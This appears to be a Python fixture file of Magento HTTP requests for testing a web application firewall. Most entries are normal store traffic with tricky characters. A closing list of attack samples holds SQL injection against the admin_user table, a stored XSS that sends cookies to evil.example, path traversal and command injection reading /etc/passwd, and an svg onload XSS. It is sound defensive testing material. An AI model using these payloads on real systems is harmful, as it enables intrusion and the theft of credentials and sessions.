"""Requests a Magento store answers every day, and a few attacks, for the WAF tests.

Each request is (name, method, path, content type, body). The bodies carry what the CRS misreads
in real stores: quotes and apostrophes in searches, names and addresses, passwords with symbols,
HTML and directives in catalog and CMS content, JSON bodies and GraphQL queries.
"""

import json
from urllib.parse import quote, urlencode

FORM = "application/x-www-form-urlencoded"
JSON = "application/json"
BOUNDARY = "----MagecloudBoundary7MA4YWxkTrZu0gW"
MULTIPART = f"multipart/form-data; boundary={BOUNDARY}"

ADDRESS = {
    "firstname": "Seán",
    "lastname": "O'Brien-D'Arcy",
    "company": 'Smith & Sons "Fine Goods" Ltd.',
    "street": ['The "Old Mill", 12 Baker\'s Row', "Apt. 3/B (rear entrance); ring twice"],
    "city": "Saint-Jean-d'Angély",
    "region": "Nouvelle-Aquitaine",
    "postcode": "17400",
    "country_id": "FR",
    "telephone": "+33 (0)5 46 32 04 72",
}
PASSWORD = "Tr0ub4dor&3'\"<or 1=1>--;$(x)"
PRODUCT_HTML = (
    '<p>Our <strong>best-selling</strong> tee, made from 100% organic cotton &amp; "soft-washed".</p>'
    '<p><img src="{{media url="wysiwyg/tee.jpg"}}" alt="Tee" style="width: 100%; height: auto;"></p>'
    '<ul><li>Machine wash at 30°C</li><li>Don\'t tumble dry</li></ul>'
    '{{widget type="Magento\\CatalogWidget\\Block\\Product\\ProductsList" show_pager="0" products_count="5"'
    ' template="Magento_CatalogWidget::product/widget/content/grid.phtml"'
    ' conditions_encoded="^[`1`:^[`type`:`Magento||CatalogWidget||Model||Rule||Condition||Combine`,'
    '`aggregator`:`all`,`value`:`1`,`new_child`:``^]^]"}}'
)
CMS_HTML = (
    '<div class="banner" data-content-type="row" data-appearance="contained" data-element="main">'
    '<a href="{{store url="sale"}}" title="Summer sale"><img src="{{view url="images/banner.png"}}" alt=""></a>'
    '<h2 style="text-align: center;">Up to 50% off &mdash; this week only!</h2></div>'
    '{{block class="Magento\\Cms\\Block\\Block" block_id="footer_links"}}'
    '{{widget type="Magento\\Cms\\Block\\Widget\\Page\\Link" template="widget/link/link_block.phtml" page_id="2"}}'
    '<p><iframe src="https://www.youtube.com/embed/xyz" width="560" height="315" allowfullscreen></iframe></p>'
)
GRAPHQL_PRODUCTS = (
    '{ products(search: "women\'s \\"running\\" shoes", pageSize: 5, filter: {price: {from: "10", to: "50"}}) '
    "{ total_count items { name sku url_key price_range { minimum_price { final_price { value currency } } } } } }"
)
GRAPHQL_SHIPPING = """mutation SetShipping($cartId: String!, $address: CartAddressInput!) {
  setShippingAddressesOnCart(input: {cart_id: $cartId, shipping_addresses: [{address: $address}]}) {
    cart { shipping_addresses { firstname lastname street city available_shipping_methods { carrier_code } } }
  }
}"""
IMPORT_CSV = (
    "sku,name,description,price,attribute_set_code,product_type\n"
    'MS-TEE-1,"Men\'s ""Classic"" Tee","<p>Soft &amp; <b>durable</b>; 100% cotton.</p>",19.99,Default,simple\n'
    'MS-TEE-2,"O\'Neill Surf Tee","<p>{{media url=""wysiwyg/surf.jpg""}}</p>",24.50,Default,simple\n'
)


def form(fields):
    return urlencode(fields, doseq=True)


def multipart(fields, file_field, file_name, file_content):
    parts = [f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'
             for name, value in fields.items()]
    parts.append(f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{file_field}"; filename="{file_name}"\r\n'
                 f"Content-Type: text/csv\r\n\r\n{file_content}\r\n--{BOUNDARY}--\r\n")
    return "".join(parts)


def search(terms):
    return "/catalogsearch/result/?" + urlencode({"q": terms})


NORMAL = [
    ("home page", "GET", "/", None, None),
    ("category with layered navigation", "GET",
     "/women/tops-women/jackets-women.html?color=49&size=168&product_list_order=price&product_list_limit=24", None, None),
    ("search with quotes", "GET", search('"red dress"'), None, None),
    ("search with an apostrophe and quotes", "GET", search('men\'s "slim fit" jeans'), None, None),
    ("search with symbols", "GET", search('O\'Neill jacket size "10" & up (navy/blue)'), None, None),
    ("search with a percent sign", "GET", search("50% off summer dresses"), None, None),
    ("search suggestions", "GET", "/search/ajax/suggest/?" + urlencode({"q": '"tank top'}), None, None),
    ("advanced search", "GET", "/catalogsearch/advanced/result/?" + urlencode(
        {"name": "Women's \"Tee\"", "sku": "WS-12", "price[from]": "10", "price[to]": "50"}), None, None),
    ("product page", "GET", "/radiant-tee.html", None, None),
    ("add to cart", "POST", "/checkout/cart/add/uenc/aHR0cDovL2xvY2FsaG9zdC9yYWRpYW50LXRlZS5odG1s/product/1/", FORM,
     form({"product": "1", "form_key": "kX2pQ9wLmN3rT7vB", "qty": "2", "super_attribute[93]": "49",
           "super_attribute[144]": "168"})),
    ("update the cart", "POST", "/checkout/cart/updatePost/", FORM,
     form({"form_key": "kX2pQ9wLmN3rT7vB", "cart[12][qty]": "3", "update_cart_action": "update_qty"})),
    ("apply a coupon", "POST", "/checkout/cart/couponPost/", FORM,
     form({"form_key": "kX2pQ9wLmN3rT7vB", "coupon_code": "SUMMER-25%", "remove": "0"})),
    ("estimate shipping in the cart", "POST", "/rest/default/V1/guest-carts/Yb3kP0aQ7/estimate-shipping-methods", JSON,
     json.dumps({"address": {"country_id": "FR", "postcode": "17400", "region": "Nouvelle-Aquitaine"}})),
    ("create an account", "POST", "/customer/account/createpost/", FORM,
     form({"form_key": "kX2pQ9wLmN3rT7vB", "firstname": ADDRESS["firstname"], "lastname": ADDRESS["lastname"],
           "email": "sean.obrien+shop@example.com", "password": PASSWORD, "password_confirmation": PASSWORD,
           "is_subscribed": "1"})),
    ("log in", "POST", "/customer/account/loginPost/", FORM,
     form({"form_key": "kX2pQ9wLmN3rT7vB", "login[username]": "sean.obrien+shop@example.com",
           "login[password]": PASSWORD, "send": ""})),
    ("edit the account and change the password", "POST", "/customer/account/editPost/", FORM,
     form({"form_key": "kX2pQ9wLmN3rT7vB", "firstname": "Zoë", "lastname": "D'Souza \"Zee\"",
           "email": "zoe@example.com", "change_password": "1", "current_password": PASSWORD,
           "password": PASSWORD + "2", "password_confirmation": PASSWORD + "2"})),
    ("save an address", "POST", "/customer/address/formPost/id/7/", FORM,
     form({"form_key": "kX2pQ9wLmN3rT7vB", "firstname": ADDRESS["firstname"], "lastname": ADDRESS["lastname"],
           "company": ADDRESS["company"], "street[]": ADDRESS["street"], "city": ADDRESS["city"],
           "region": ADDRESS["region"], "postcode": ADDRESS["postcode"], "country_id": ADDRESS["country_id"],
           "telephone": ADDRESS["telephone"], "default_billing": "1", "default_shipping": "1"})),
    ("order history", "GET", "/sales/order/history/?limit=20&p=2", None, None),
    ("reset a forgotten password", "POST", "/customer/account/resetpasswordpost/?token=0:3:Zk9vYmFy", FORM,
     form({"password": PASSWORD, "password_confirmation": PASSWORD})),
    ("checkout: shipping information", "POST",
     "/rest/default/V1/guest-carts/Yb3kP0aQ7/shipping-information", JSON,
     json.dumps({"addressInformation": {"shipping_address": ADDRESS, "billing_address": ADDRESS,
                                        "shipping_method_code": "flatrate", "shipping_carrier_code": "flatrate",
                                        "extension_attributes": {}}})),
    ("checkout: place the order", "POST", "/rest/default/V1/guest-carts/Yb3kP0aQ7/payment-information", JSON,
     json.dumps({"cartId": "Yb3kP0aQ7", "email": "sean.obrien+shop@example.com",
                 "paymentMethod": {"method": "checkmo", "po_number": None, "additional_data": None},
                 "billingAddress": ADDRESS})),
    ("REST: change a cart item", "PUT", "/rest/V1/carts/mine/items/5", JSON,
     json.dumps({"cartItem": {"item_id": 5, "qty": 2, "quote_id": "12"}})),
    ("REST: remove a cart item", "DELETE", "/rest/V1/carts/mine/items/5", None, None),
    ("REST: search products with a like filter", "GET", "/rest/V1/products?" + urlencode({
        "searchCriteria[filter_groups][0][filters][0][field]": "name",
        "searchCriteria[filter_groups][0][filters][0][value]": "%women's tee%",
        "searchCriteria[filter_groups][0][filters][0][condition_type]": "like",
        "searchCriteria[sortOrders][0][field]": "created_at",
        "searchCriteria[sortOrders][0][direction]": "DESC", "searchCriteria[pageSize]": "20"}), None, None),
    ("REST: create a customer", "POST", "/rest/V1/customers", JSON,
     json.dumps({"customer": {"email": "zoe@example.com", "firstname": "Zoë", "lastname": "O'Connor",
                              "addresses": [dict(ADDRESS, default_billing=True, default_shipping=True)]},
                 "password": PASSWORD})),
    ("REST: update a product's description", "PUT", "/rest/all/V1/products/MS-TEE-1", JSON,
     json.dumps({"product": {"sku": "MS-TEE-1", "name": "Men's \"Classic\" Tee",
                             "custom_attributes": [{"attribute_code": "description", "value": PRODUCT_HTML}]}})),
    ("GraphQL: product search in GET", "GET", "/graphql?query=" + quote(GRAPHQL_PRODUCTS), None, None),
    ("GraphQL: product search in POST", "POST", "/graphql", JSON, json.dumps({"query": GRAPHQL_PRODUCTS})),
    ("GraphQL: customer token", "POST", "/graphql", JSON, json.dumps({
        "query": 'mutation { generateCustomerToken(email: "zoe@example.com", password: %s) { token } }'
                 % json.dumps(PASSWORD)})),
    ("GraphQL: shipping address with variables", "POST", "/graphql", JSON, json.dumps({
        "query": GRAPHQL_SHIPPING, "operationName": "SetShipping",
        "variables": {"cartId": "Yb3kP0aQ7", "address": dict(ADDRESS, country_code="FR", save_in_address_book=False)}})),
    ("admin: log in", "POST", "/admin/admin/index/index/", FORM,
     form({"form_key": "aD9fK2mQ", "login[username]": "admin", "login[password]": PASSWORD})),
    ("admin: product grid", "GET", "/admin/mui/index/render/?" + urlencode({
        "namespace": "product_listing", "search": "women's tee", "filters[placeholder]": "true",
        "paging[pageSize]": "20", "paging[current]": "1", "sorting[field]": "entity_id",
        "sorting[direction]": "asc", "isAjax": "true"}), None, None),
    ("admin: save a product with HTML and a widget", "POST",
     "/admin/catalog/product/save/id/1/type/simple/store/0/set/4/back/edit/", FORM,
     form({"form_key": "aD9fK2mQ", "product[name]": "Men's \"Classic\" Tee", "product[sku]": "MS-TEE-1",
           "product[price]": "19.99", "product[description]": PRODUCT_HTML,
           "product[short_description]": "<p>Soft &amp; <em>durable</em> &ndash; 100% cotton.</p>",
           "product[meta_title]": "Men's \"Classic\" Tee | Luma", "product[meta_keyword]": "tee, t-shirt; men's",
           "product[meta_description]": "Our best-selling tee - soft & durable (100% cotton).",
           "product[url_key]": "mens-classic-tee", "product[quantity_and_stock_status][qty]": "100"})),
    ("admin: save a CMS page", "POST", "/admin/cms/page/save/", FORM,
     form({"form_key": "aD9fK2mQ", "title": "Summer \"Sale\"", "identifier": "summer-sale", "is_active": "1",
           "content_heading": "Don't miss it!", "content": CMS_HTML, "page_layout": "1column",
           "meta_title": "Summer sale", "layout_update_xml": ""})),
    ("admin: save a CMS block", "POST", "/admin/cms/block/save/", FORM,
     form({"form_key": "aD9fK2mQ", "title": "Footer links", "identifier": "footer_links", "is_active": "1",
           "store_id[]": "0", "content": CMS_HTML})),
    ("admin: validate a product import", "POST", "/admin/admin/import/validate/", MULTIPART,
     multipart({"form_key": "aD9fK2mQ", "entity": "catalog_product", "behavior": "append",
                "validation_strategy": "validation-stop-on-errors", "allowed_error_count": "10",
                "_import_field_separator": ",", "_import_multiple_value_separator": ","},
               "import_file", "products.csv", IMPORT_CSV)),
]

ATTACKS = [
    ("SQL injection in the search", "GET", search("1' UNION SELECT username,password FROM admin_user-- -"), None, None),
    ("stored XSS in a product review", "POST", "/review/product/post/id/1/", FORM,
     form({"form_key": "kX2pQ9wLmN3rT7vB", "ratings[4]": "20", "nickname": "eve", "title": "Great",
           "detail": "<script>fetch('//evil.example/?c='+document.cookie)</script>"})),
    ("path traversal in a parameter", "GET", "/catalog/product/view/id/1/?file=../../../../etc/passwd", None, None),
    ("SQL injection in a GraphQL variable", "POST", "/graphql", JSON, json.dumps({
        "query": "query ($s: String) { products(search: $s) { items { sku } } }",
        "variables": {"s": "1' UNION SELECT password FROM admin_user-- -"}})),
    ("SQL injection inside a GraphQL document", "GET", "/graphql?query=" + quote(
        '{ products(search: "x\' UNION SELECT password FROM admin_user-- -") { items { sku } } }'), None, None),
    ("command injection in a REST body", "PUT", "/rest/V1/carts/mine/items/5", JSON,
     json.dumps({"cartItem": {"sku": "x; cat /etc/passwd", "qty": 1}})),
    ("XSS in the address form", "POST", "/customer/address/formPost/", FORM,
     form({"form_key": "kX2pQ9wLmN3rT7vB", "firstname": "<svg onload=alert(1)>", "lastname": "x"})),
]
